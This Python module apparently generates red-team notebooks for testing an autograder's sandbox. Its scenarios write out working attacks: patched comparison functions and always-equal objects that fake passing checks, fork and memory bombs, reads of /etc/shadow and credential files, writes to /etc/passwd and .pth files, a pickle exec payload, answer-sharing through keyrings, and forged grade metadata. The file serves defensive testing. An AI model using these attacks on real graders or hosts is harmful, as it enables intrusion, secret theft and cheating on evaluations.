"""The red team's notebooks: one attack per scenario, against the `tensors` assignment.

The notebooks under tests/data/redteam/ are generated from SCENARIOS (and a test checks they
still are): after editing a scenario, run

    .venv/bin/python -m tests.sandbox.scenarios

Every scenario states what it may earn (`expected`): attacks that solve nothing earn 0; where a
scenario also holds an honest answer, that question keeps its points. Processes the attacks start
carry MARK in their command line, files they try to plant carry PWNED in their name, so the test
can look for survivors and plants on the host.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

DATA = Path(__file__).resolve().parent.parent / "data" / "redteam"
MARK = "rt-marker-6d1f"
PWNED = f"{MARK}-pwned"
PICKLE_FLAG = f"/tmp/{MARK}-pickle-ran"  # created (on the judge's host) only if a payload is ever unpickled
PORTS = (47300, 47400)  # the network scenario knocks on these; the test listens on one of them
ABSTRACT_SOCKET = f"\0{MARK}-listener"
# the whole tensors assignment is 10 points: describe 2, matmul_shape 3, matmul 3, one_hot 2


@dataclass(frozen=True)
class Scenario:
    name: str
    what: str  # the attack, in a sentence
    cells: tuple[str, ...]
    expected: dict[str, float] = field(default_factory=dict)  # grade_id -> points it keeps (others: 0)

    @property
    def score(self) -> float:
        return float(sum(self.expected.values()))

    @property
    def path(self) -> Path:
        return DATA / f"{self.name}.ipynb"


# ------------------------------------------------------------------ honest answers some scenarios keep
DESCRIBE_OK = '''def describe(t):
    return {"shape": tuple(t.shape), "ndim": t.ndim, "dtype": str(t.dtype), "numel": t.numel()}'''

MATMUL_SHAPE_OK = '''def matmul_shape(a_shape, b_shape):
    a, b = tuple(a_shape), tuple(b_shape)
    if not a or not b:
        raise ValueError("0-D operand")
    a1, b1 = len(a) == 1, len(b) == 1
    a = (1,) + a if a1 else a
    b = b + (1,) if b1 else b
    if a[-1] != b[-2]:
        raise ValueError("inner dimensions differ")
    ba, bb = a[:-2], b[:-2]
    n = max(len(ba), len(bb))
    ba, bb = (1,) * (n - len(ba)) + ba, (1,) * (n - len(bb)) + bb
    batch = []
    for x, y in zip(ba, bb):
        if x != y and 1 not in (x, y):
            raise ValueError("batch dimensions do not broadcast")
        batch.append(max(x, y) if 1 in (x, y) else x)
    return tuple(batch) + (() if a1 else (a[-2],)) + (() if b1 else (b[-1],))'''

MATMUL_OK = '''def matmul(a, b):
    if a.shape[1] != b.shape[0]:
        raise ValueError("inner dimensions differ")
    return (a[:, :, None] * b[None, :, :]).sum(dim=1)'''

ONE_HOT_OK = '''def one_hot(labels, num_classes):
    if labels.numel() and (labels.min() < 0 or labels.max() >= num_classes):
        raise ValueError("label out of range")
    out = torch.zeros(labels.shape[0], num_classes, dtype=torch.float32)
    out[torch.arange(labels.shape[0]), labels] = 1.0
    return out'''

WRONG_ANSWERS = '''def describe(t):
    return {"shape": (), "ndim": -1, "dtype": "torch.nothing", "numel": -1}

def matmul_shape(a_shape, b_shape):
    return (0,)

def matmul(a, b):
    return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype)  # right shape and dtype, wrong values

def one_hot(labels, num_classes):
    return torch.zeros(labels.shape[0], num_classes)  # right shape and dtype, wrong values'''


SCENARIOS: list[Scenario] = [
    Scenario(
        "honest", "no attack: a correct notebook (the control: it must keep every point)",
        ("import torch", DESCRIBE_OK, MATMUL_SHAPE_OK, MATMUL_OK, ONE_HOT_OK),
        {"describe": 2, "matmul_shape": 3, "matmul": 3, "one_hot": 2},
    ),
    Scenario(
        "patch-allclose", "replace every comparison the checks could use, then return wrong answers",
        ("import torch, math, unittest\nimport torch.testing\nimport numpy as np",
         '''torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.testing.assert_close = lambda *a, **k: None
torch.testing.assert_allclose = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
try:
    import pytest
    pytest.approx = lambda *a, **k: type("Anything", (), {"__eq__": lambda s, o: True})()
except ImportError:
    pass
try:  # the grader's own helpers, if they could be found
    import graders.checks as gc
    for name in dir(gc):
        if name.startswith("assert_"):
            setattr(gc, name, lambda *a, **k: None)
except ImportError as exc:
    print("no graders here:", exc)''',
         WRONG_ANSWERS),
    ),
    Scenario(
        "always-equal", "answers that compare equal to anything, and objects that pretend to be tensors",
        ("import torch",
         '''class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter((AlwaysEqual(), AlwaysEqual()))
    def __getitem__(self, key): return AlwaysEqual()
    def __getattr__(self, name): return AlwaysEqual()
    def __call__(self, *a, **k): return AlwaysEqual()
    def __index__(self): return 0
    def __int__(self): return 0
    def __float__(self): return 0.0
    def __repr__(self): return "tensor([1.])"

class EqDict(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, key): return AlwaysEqual()
    def __contains__(self, key): return True

class EqTuple(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False

class FakeTensor(AlwaysEqual):
    """isinstance(x, torch.Tensor) is True for this, and every attribute agrees with anything."""
    @property
    def __class__(self): return torch.Tensor
    shape = property(lambda self: EqTuple((AlwaysEqual(), AlwaysEqual())))
    dtype = property(lambda self: AlwaysEqual())

class EqTensor(torch.Tensor):
    """A real tensor (of zeros) whose comparisons all say yes."""
    def __eq__(self, other): return torch.ones(self.shape, dtype=torch.bool)
    def __ne__(self, other): return torch.zeros(self.shape, dtype=torch.bool)
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})''',
         '''def describe(t):
    return EqDict(shape=AlwaysEqual(), ndim=AlwaysEqual(), dtype=AlwaysEqual(), numel=AlwaysEqual())

def matmul_shape(a_shape, b_shape):
    return EqTuple((AlwaysEqual(), AlwaysEqual()))

def matmul(a, b):
    return FakeTensor()

def one_hot(labels, num_classes):
    return torch.zeros(labels.shape[0], num_classes).as_subclass(EqTensor)'''),
    ),
    Scenario(
        "os-exit", "end the worker's own process with os._exit, from a cell and from an answer",
        ("import os\nimport torch", "os._exit(0)", ONE_HOT_OK,
         '''def describe(t):
    os._exit(0)'''),
        {"one_hot": 2},
    ),
    Scenario(
        "system-exit", "SystemExit and friends, from cells and from answers",
        ("import sys\nimport torch", "sys.exit(0)", 'raise SystemExit("all tests passed")', "quit()\nexit()", ONE_HOT_OK,
         '''def describe(t):
    sys.exit(0)

def matmul_shape(a_shape, b_shape):
    raise SystemExit("10/10")

def matmul(a, b):
    raise KeyboardInterrupt'''),
        {"one_hot": 2},
    ),
    Scenario(
        "excepthook", "silence and rewrite every error report, then fail",
        ("import sys, traceback, builtins\nimport torch",
         '''sys.excepthook = lambda *a: print("All checks passed!")
ip = get_ipython()
ip.showtraceback = lambda *a, **k: print("All checks passed!")
ip._showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
traceback.format_exception = lambda *a, **k: ["All checks passed!"]
traceback.print_exception = lambda *a, **k: None
traceback.format_exc = lambda *a, **k: "All checks passed!"''',
         '''def describe(t):
    raise AssertionError("passed")

def matmul_shape(a_shape, b_shape):
    raise GeneratorExit

def matmul(a, b):
    1 / 0

def one_hot(labels, num_classes):
    raise RuntimeError("passed")'''),
    ),
    Scenario(
        "infinite-loop", "cells that never end, one of them deaf to the soft time limit",
        ("import signal\nimport torch",
         '''signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass''',
         "while True:\n    pass",
         ONE_HOT_OK),
        {"one_hot": 2},
    ),
    Scenario(
        "training-hangs", "a function (like a training loop) that never returns; the other answers are right",
        ("import torch", DESCRIBE_OK, MATMUL_SHAPE_OK,
         '''def matmul(a, b):
    w = torch.zeros(1)
    while True:  # "training" that never converges
        w = w + 1''',
         ONE_HOT_OK),
        {"describe": 2, "matmul_shape": 3, "one_hot": 2},
    ),
    Scenario(
        "memory-bomb", "allocate far beyond the memory limit: lists, tensors, shared memory, /tmp and /dev/shm",
        ("import torch, mmap, os", ONE_HOT_OK,
         '''hog = []
try:
    while True:
        hog.append(bytearray(64 * 1024**2))
except MemoryError:
    print("stopped after", len(hog) * 64, "MiB")
del hog''',
         "x = torch.ones(2**34)",
         '''m = mmap.mmap(-1, 8 * 1024**3)  # shared anonymous memory: not counted by RLIMIT_DATA
for i in range(0, len(m), 4096):
    m[i] = 1''',
         '''fd = os.memfd_create("bomb")
os.ftruncate(fd, 8 * 1024**3)
m = mmap.mmap(fd, 8 * 1024**3)
for i in range(0, len(m), 4096):
    m[i] = 1''',
         '''for where in ("/tmp", "/dev/shm", "."):
    try:
        with open(os.path.join(where, "fill"), "wb") as f:
            for _ in range(1024):
                f.write(b"x" * 1024**2)
    except OSError as exc:
        print(where, "stopped:", exc)''',
         '''def describe(t):
    return bytearray(16 * 1024**3)

def matmul(a, b):
    return torch.ones(100_000, 100_000)'''),
        {"one_hot": 2},
    ),
    Scenario(
        "process-flood", "start many processes that detach (new sessions, double fork) to outlive grading",
        ("import os, sys, subprocess, time\nimport torch",
         f'''MARK = "{MARK}"
pid = os.fork()
if pid == 0:  # a daemon: double fork, setsid, no parent left to kill
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", [MARK + "-daemon", "600"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
started, failure = 0, None
for i in range(100):
    try:
        subprocess.Popen([MARK + "-sleeper", "600"], executable="/bin/sleep", start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        started += 1
    except OSError as exc:
        failure = type(exc).__name__
        break
print("started", started, "then", failure)''',
         f'''def describe(t):
    subprocess.Popen(["{MARK}-call", "600"], executable="/bin/sleep", start_new_session=True)
    return {{}}'''),
    ),
    Scenario(
        "fork-bomb", "a fork bomb (run only where the number of processes is bounded)",
        ("import os, time",
         '''def bomb():
    while True:
        try:
            os.fork()
        except OSError:  # the table is full: wait for a free slot (and leave the CPU to the grader)
            time.sleep(0.01)
bomb()'''),
    ),
    Scenario(
        "read-hidden-checks", "look for the hidden checks, the solutions, the gradebook and other students' work; write into them",
        ("import os, sys, glob, importlib.util\nimport torch",
         f'''PWNED = "{PWNED}"
found, wrote = {{}}, {{}}

def grab(path):
    try:
        if os.path.isdir(path):
            found[path] = sorted(os.listdir(path))[:20]
        else:
            with open(path, "rb") as f:
                found[path] = f.read(300).decode("latin-1")
    except OSError as exc:
        found[path] = type(exc).__name__

roots = {{"/work/main", os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)), os.getcwd() + "/.."}}
for r in sorted(roots):
    for rel in ("graders/assignments/tensors.py", "graders/assignments", "gradebook.db", "source/tensors/tensors.ipynb",
                "source", "autograded", "submitted", "release", "graders", "nbgrader_config.py"):
        grab(os.path.join(r, rel))
for path in ("/root", "/home", "/etc/shadow", "/proc/1/root", "/proc/1/cwd", "/tmp"):
    grab(path)
for name in ("graders", "graders.assignments.tensors", "graders.checks"):
    try:
        spec = importlib.util.find_spec(name)
        found["import " + name] = repr(spec and spec.origin)
    except Exception as exc:
        found["import " + name] = type(exc).__name__
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")
               and d not in ("site-packages", "python3.11")]
    for f in files:
        if f in ("tensors.py", "tensors.ipynb", "nbgrader_config.py") or f.endswith((".db", ".sqlite")):
            grab(os.path.join(root, f))

site = [p for p in sys.path if p.endswith("site-packages")]
targets = [os.path.join(r, rel) for r in sorted(roots) for rel in
           ("graders/assignments/" + PWNED + ".py", "graders/assignments/tensors.py", "gradebook.db",
            "source/" + PWNED, "autograded/" + PWNED, PWNED)]
targets += [os.path.join(p, PWNED + ".pth") for p in site]  # would run in the judge at its next start
targets += ["/opt/graders-worker/graders_worker/serve.py", os.path.join(sys.base_prefix, "lib/python3.11/os.py"),
            "/etc/passwd", "/usr/lib/" + PWNED, "/" + PWNED]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\n# " + PWNED + "\\n")
        wrote[path] = "WROTE"
    except OSError as exc:
        wrote[path] = type(exc).__name__
report = repr({{"found": found, "wrote": wrote}})
print(report)''',
         '''def describe(t):
    raise RuntimeError(report[:1990])  # messages of errors reach the result: a way out for what was found

def matmul_shape(a_shape, b_shape):
    return report

def one_hot(labels, num_classes):
    raise RuntimeError(repr(wrote)[:1990])'''),
    ),
    Scenario(
        "network", "reach the host over TCP, UDP and abstract unix sockets, and the outside world",
        ("import socket\nimport torch",
         f'''PORTS = range({PORTS[0]}, {PORTS[1]})
MARK = "{MARK}"

def knock(family, addr):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
    except OSError as exc:
        return type(exc).__name__
    s.settimeout(0.3)
    try:
        s.connect(addr)
        s.sendall(MARK.encode())
        return "CONNECTED"
    except OSError as exc:
        return type(exc).__name__
    finally:
        s.close()

reached = [p for p in PORTS if knock(socket.AF_INET, ("127.0.0.1", p)) == "CONNECTED"]
reached += [p for p in PORTS if knock(socket.AF_INET6, ("::1", p, 0, 0)) == "CONNECTED"]
unix = knock(socket.AF_UNIX, "\\0" + MARK + "-listener")
outside = knock(socket.AF_INET, ("192.0.2.1", 80))  # TEST-NET-1: never routed anywhere
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for p in PORTS:
    try:
        udp.sendto(MARK.encode(), ("127.0.0.1", p))
    except OSError:
        pass
print("reached", reached, "unix", unix, "outside", outside)''',
         '''def describe(t):
    return {"reached": reached, "unix": unix, "outside": outside}'''),
    ),
    Scenario(
        "pickle-payload", "answers whose unpickling would run code in the judge",
        ("import io, os, pickle\nimport torch",
         f'''FLAG = "{PICKLE_FLAG}"
PAYLOAD = f"open({{FLAG!r}}, 'w').write('pickle payload ran in the judge')"

class Evil:
    def __reduce__(self):
        return (exec, (PAYLOAD,))

class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (exec, (PAYLOAD,))''',
         '''def describe(t):
    return Evil()

def matmul_shape(a_shape, b_shape):
    return pickle.dumps(Evil())

def matmul(a, b):
    buf = io.BytesIO()
    torch.save({"result": Evil()}, buf)
    return buf.getvalue()

def one_hot(labels, num_classes):
    return torch.zeros(labels.shape[0], num_classes).as_subclass(EvilTensor)'''),
    ),
    Scenario(
        "output-flood", "print hundreds of MB, through Python and straight to the process's stdout and stderr",
        ("import os, sys\nimport torch",
         'print("x" * (200 * 1024**2))',
         '''chunk = b"y" * (1 << 20)
for _ in range(300):
    os.write(1, chunk)
for _ in range(100):
    os.write(2, chunk)''',
         '''for _ in range(50):
    sys.__stdout__.write("z" * (1 << 20))''',
         '''def describe(t):
    print("w" * (100 * 1024**2))
    return {}

def one_hot(labels, num_classes):
    raise RuntimeError("v" * (50 * 1024**2))'''),
    ),
    Scenario(
        "env-secrets", "read secrets from the environment of the worker and of every process it can see",
        ("import os, glob\nimport torch",
         '''seen = {"environ": dict(os.environ)}
for path in sorted(glob.glob("/proc/[0-9]*/environ")) + ["/proc/self/environ", "/proc/1/cmdline", "/etc/environment",
                                                          "/root/.git-credentials", "/root/.netrc", "/root/.config/gh/hosts.yml"]:
    try:
        with open(path, "rb") as f:
            seen[path] = f.read(4000).decode("latin-1")
    except OSError as exc:
        seen[path] = type(exc).__name__
leak = repr(seen)
print(leak)''',
         '''def describe(t):
    raise RuntimeError(leak[:1990])

def matmul_shape(a_shape, b_shape):
    return leak

def one_hot(labels, num_classes):
    return {"leak": leak}'''),
    ),
]

# ------------------------------------------------------------------ round two (issue #11)
# the worker's own connection to the judge, found the way an attacker would: the first unix stream socket
CHANNEL = """import os, socket, struct, time

def channel():
    for fd in range(3, 256):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM:
            return s
        s.close()
    raise RuntimeError("no channel")"""

SCENARIOS += [
    Scenario(
        "trickle-frame", "write a frame header on the worker's socket, then one byte at a time, deaf to the time limit",
        ("import torch", CHANNEL,
         """def trickle():
    s = channel()
    s.sendall(struct.pack("!IQ", 4096, 0))
    while True:
        try:
            s.send(b" ")
            time.sleep(0.5)
        except BaseException:
            pass""",
         "trickle()", ONE_HOT_OK,
         """def describe(t):
    trickle()"""),
        {"one_hot": 2},
    ),
    Scenario(
        "malformed-frame", "frames the judge cannot decode: a header that is not UTF-8, nesting deeper than any parser, bad lengths",
        ("import torch", CHANNEL, ONE_HOT_OK,
         """s = channel()
s.sendall(struct.pack("!IQ", 4, 0) + b"\\xff\\xfe\\xfd\\xfc")""",
         """s = channel()
deep = b"[" * 200000 + b"]" * 200000
s.sendall(struct.pack("!IQ", len(deep), 0) + deep)""",
         DESCRIBE_OK,
         """def matmul_shape(a_shape, b_shape):
    s = channel()
    s.sendall(struct.pack("!IQ", 2**31, 2**62))
    return (0,)

def matmul(a, b):
    s = channel()
    head = ('{"ok": true, "value": ' + '{"$tuple": [' * 5000 + ']}' * 5000 + '}').encode()
    s.sendall(struct.pack("!IQ", len(head), 0) + head)
    return a @ b"""),
        {"one_hot": 2, "describe": 2},
    ),
    Scenario(
        "shared-tensor-bomb", "one 64 MiB tensor referenced 40 times in an answer: 2.5 GB if every reference were decoded",
        ("import torch", DESCRIBE_OK,
         """def matmul(a, b):
    t = torch.zeros(16 * 1024**2)
    return [t] * 40

def one_hot(labels, num_classes):
    t = torch.zeros(16 * 1024**2)
    return {i: t for i in range(40)}"""),
        {"describe": 2},
    ),
    Scenario(
        "message-flood", "answers of 15 MB that a check message would quote in full",
        ("import torch",
         """def describe(t):
    return {"shape": "s" * 15_000_000, "ndim": 1, "dtype": "d" * 1000, "numel": 1}

def matmul_shape(a_shape, b_shape):
    return "x" * 15_000_000

def one_hot(labels, num_classes):
    raise RuntimeError("v" * 15_000_000)""",
         *[f"print('{c}' * 60_000)" for c in "abcdefghijklmnopqrst"]),
    ),
    Scenario(
        "deep-tree", "a directory 1,500 levels deep in the working folder (recursive clean-up would fail)",
        ("import os\nimport torch",
         """top = os.getcwd()
for i in range(1500):
    os.mkdir("d")
    os.chdir("d")
open("leaf", "w").write("x")
os.chdir(top)""",
         ONE_HOT_OK),
        {"one_hot": 2},
    ),
    Scenario(
        "held-before", "attacks the grader held in round two, kept held: ptrace into PID 1, a sparse 1 TiB file, "
                       "100,000 files, SIGALRM blocked around a C call with a CPU-burning thread, signals to PID 1 and kill(-1)",
        ("import ctypes, os, signal, threading\nimport torch", ONE_HOT_OK,
         """libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", libc.ptrace(16, 1, None, None), os.strerror(ctypes.get_errno()))  # PTRACE_ATTACH to PID 1""",
         """try:
    with open("sparse", "wb") as f:
        f.truncate(2**40)
    print("sparse", os.stat("sparse").st_size)
except OSError as exc:
    print("sparse refused:", exc)""",
         """os.mkdir("many")
for i in range(100_000):
    open(f"many/{i}", "w").close()
print("files", len(os.listdir("many")))""",
         """signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
threading.Thread(target=lambda: sum(iter(int, 1)), daemon=True).start()
libc.sleep(3600)  # C code, the soft time limit's signal blocked""",
         """for sig in (signal.SIGTERM, signal.SIGKILL):
    for pid in (1, -1):
        try:
            os.kill(pid, sig)
        except OSError as exc:
            print(pid, sig, exc)"""),
        {"one_hot": 2},
    ),
    Scenario(
        "slow-cells", "many slow cells, each one just under the time limit, and a finalizer that swallows the soft timeout",
        ("import time\nimport torch",
         *["time.sleep(1.8)"] * 6,
         """class Slow:
    def __del__(self):
        try:
            time.sleep(1.8)
        except BaseException:
            pass
s = Slow()
del s""",
         ONE_HOT_OK),
    ),
]
BY_NAME = {s.name: s for s in SCENARIOS}


def notebook(cells: tuple[str, ...] | list[str], *, what: str = "", assignment: str = "tensors") -> dict:
    """A minimal nbformat-4 notebook of code cells (what a student would submit)."""
    md = [{"cell_type": "markdown", "metadata": {}, "source": f"Red-team scenario: {what}"}] if what else []
    code = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src} for src in cells]
    return {
        "cells": md + code,
        "metadata": {"graders": {"assignment": assignment},
                     "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def render(s: Scenario) -> str:
    return json.dumps(notebook(s.cells, what=s.what), indent=1, ensure_ascii=False) + "\n"


# ------------------------------------------------------------------ round two: attacks on a whole class
# graded together by `graders autograde --workers 2` (tests/sandbox/test_redteam_course.py)
COURSE_DATA = DATA.parent / "redteam-course"
ANSWERS = "\n\n".join((DESCRIBE_OK, MATMUL_SHAPE_OK, MATMUL_OK, ONE_HOT_OK))
KEYS = f'''import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, REQUEST_KEY, KEYCTL = {{"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}}[os.uname().machine]
RINGS = {{"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}}
DESC = "{MARK}-answers"

def add_key(payload, ring):
    r = libc.syscall(ADD_KEY, b"user", DESC.encode(), payload, len(payload), ctypes.c_long(RINGS[ring]))
    return "ADDED" if r >= 0 else os.strerror(ctypes.get_errno())

def read_key():
    for ring in RINGS.values():
        kid = libc.syscall(KEYCTL, 10, ctypes.c_long(ring), b"user", DESC.encode(), 0)  # KEYCTL_SEARCH
        if kid < 0:
            continue
        buf = ctypes.create_string_buffer(65536)
        n = libc.syscall(KEYCTL, 11, ctypes.c_long(kid), buf, 65536)  # KEYCTL_READ
        if n > 0:
            return buf.raw[:n].decode()
    kid = libc.syscall(REQUEST_KEY, b"user", DESC.encode(), None, 0)
    if kid >= 0:
        buf = ctypes.create_string_buffer(65536)
        n = libc.syscall(KEYCTL, 11, ctypes.c_long(kid), buf, 65536)
        if n > 0:
            return buf.raw[:n].decode()
    return None'''
PLACES = ("/tmp", "/dev/shm", "/var/tmp", ".", "..", "/submission")
COURSE_SCENARIOS: list[Scenario] = [
    Scenario(
        "planter", "answer honestly, and leave the answers wherever a later submission could look: kernel keyrings, "
                   "/tmp, /dev/shm, /var/tmp, the working folder, module state, the environment",
        ("import os, sys, builtins\nimport torch", ANSWERS, KEYS,
         f'''ANSWERS = {ANSWERS!r}
planted = {{ring: add_key(ANSWERS.encode(), ring) for ring in RINGS}}
for where in {PLACES!r}:
    try:
        with open(os.path.join(where, "{MARK}-answers.py"), "w") as f:
            f.write(ANSWERS)
        planted[where] = "WROTE"
    except OSError as exc:
        planted[where] = type(exc).__name__
torch.rt_answers = builtins.rt_answers = os.rt_answers = ANSWERS
sys.modules["rt_answers"] = type(sys)("rt_answers")
sys.modules["rt_answers"].ANSWERS = ANSWERS
os.environ["RT_ANSWERS"] = ANSWERS
print("planted", planted)'''),
        {"describe": 2, "matmul_shape": 3, "matmul": 3, "one_hot": 2},
    ),
    Scenario(
        "reader", "stubs, then look for another submission's answers in every place the planter used (for 8 s)",
        ("import os, sys, time, builtins\nimport torch",
         '''def describe(t):
    raise NotImplementedError

def matmul_shape(a_shape, b_shape):
    raise NotImplementedError

def matmul(a, b):
    raise NotImplementedError

def one_hot(labels, num_classes):
    raise NotImplementedError''',
         KEYS,
         f'''def look():
    found = {{}}
    key = read_key()
    if key:
        found["keyring"] = key
    for where in {PLACES!r}:
        try:
            found[where] = open(os.path.join(where, "{MARK}-answers.py")).read()
        except OSError:
            pass
    for name, holder in (("torch", torch), ("builtins", builtins), ("os", os)):
        if hasattr(holder, "rt_answers"):
            found[name] = holder.rt_answers
    if "rt_answers" in sys.modules:
        found["sys.modules"] = sys.modules["rt_answers"].ANSWERS
    if "RT_ANSWERS" in os.environ:
        found["environ"] = os.environ["RT_ANSWERS"]
    return found

deadline = time.monotonic() + 8
found = look()
while not found and time.monotonic() < deadline:
    time.sleep(0.2)
    found = look()
for where, answers in found.items():
    exec(answers)
print("found in", sorted(found))'''),
    ),
]
COURSE_BY_NAME = {s.name: s for s in COURSE_SCENARIOS}


def forged_notebook(correct: dict) -> dict:
    """`correct` (a genuine, correct tensors notebook) with what a student could forge around the answers:
    outputs claiming full marks, a grade cell worth 1000 points, a grade cell renamed, a "bonus" grade cell,
    a markdown cell with outputs (invalid nbformat) and the grader's own metadata claiming 1000/10."""
    import copy

    nb = copy.deepcopy(correct)
    fake = {"output_type": "stream", "name": "stdout", "text": "All checks passed: 1000/10 FORGED-OUTPUT\n"}
    grade_cells = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            c["outputs"] = [dict(fake)]
            c["execution_count"] = 1000
    grade_cells[0]["metadata"]["nbgrader"]["points"] = 1000
    grade_cells[1]["metadata"]["nbgrader"]["grade_id"] = "describe"  # a second claim on another question
    grade_cells[0]["metadata"]["graders"] = {"score": 1000, "max_score": 10, "checks": []}
    bonus = copy.deepcopy(grade_cells[-1])
    bonus["id"] = "bonus-cell"
    bonus["source"] = "# bonus question: FORGED-BONUS"
    bonus["metadata"]["nbgrader"].update(grade_id="bonus", points=1000)
    nb["cells"].append(bonus)
    nb["cells"].append({"cell_type": "markdown", "id": "md-forged", "metadata": {}, "source": "FORGED-MARKDOWN",
                        "outputs": [dict(fake)], "execution_count": 3})
    nb["metadata"]["graders"] = {"assignment": "tensors", "result": {"status": "graded", "score": 1000, "max_score": 10}}
    return nb


def write_all() -> list[Path]:
    DATA.mkdir(parents=True, exist_ok=True)
    COURSE_DATA.mkdir(parents=True, exist_ok=True)
    out = []
    for s in SCENARIOS:
        s.path.write_text(render(s), encoding="utf-8")
        out.append(s.path)
    for s in COURSE_SCENARIOS:
        path = COURSE_DATA / f"{s.name}.ipynb"
        path.write_text(render(s), encoding="utf-8")
        out.append(path)
    correct = json.loads((DATA.parent / "tensors" / "correct.ipynb").read_text(encoding="utf-8"))
    path = COURSE_DATA / "forged-outputs.ipynb"
    path.write_text(json.dumps(forged_notebook(correct), indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    out.append(path)
    return out


if __name__ == "__main__":
    for p in write_all():
        print(p)
